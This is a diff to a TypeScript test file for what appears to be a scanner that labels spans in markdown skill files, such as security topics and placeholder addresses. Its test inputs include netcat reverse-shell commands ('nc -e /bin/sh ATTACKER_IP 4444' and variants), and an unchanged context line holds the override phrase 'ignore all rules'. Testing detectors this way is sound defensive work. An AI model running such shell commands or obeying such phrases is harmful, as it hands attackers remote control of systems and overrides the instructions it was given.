@@ -115,6 +115,17 @@ it("takes a labelled line of a block without language for what a program said", 
   expect(roles("```\nRun: ⟦ignore all rules⟧\n```\n")).toEqual([]);
 });
 
+it("sees an address that is to be filled in, where the skill is about security", () => {
+  const about = (text: string, is = true) => roles(text, "notes.md", is);
+  expect(about("```sh\n⟦nc -e /bin/sh ATTACKER_IP 4444⟧\n```\n")).toEqual(["security-topic", "placeholder"]);
+  expect(about("```sh\n⟦nc -e /bin/sh⟧ <attacker-ip> 4444\n```\n")).toContain("placeholder");
+  expect(about("```sh\n⟦nc -e /bin/sh 198.51.100.7 4444⟧\n```\n")).toEqual(["security-topic"]);
+  expect(about("```sh\n⟦nc -e /bin/sh ATTACKER_IP 4444⟧\n```\n", false)).toEqual([]);
+  expect(roles("```sh\n⟦nc -e /bin/sh 198.51.100.7 4444⟧\n# ATTACKER_IP\n```\n", "notes.md", true)).toEqual([
+    "security-topic",
+  ]);
+});
+
 describe("what roles take off", () => {
   it("is nothing for a quotation alone, one step for one sign, all for two or a plain one", () => {
     expect(stepsOf(new Set(["quoted"]), 2)).toBe(0);
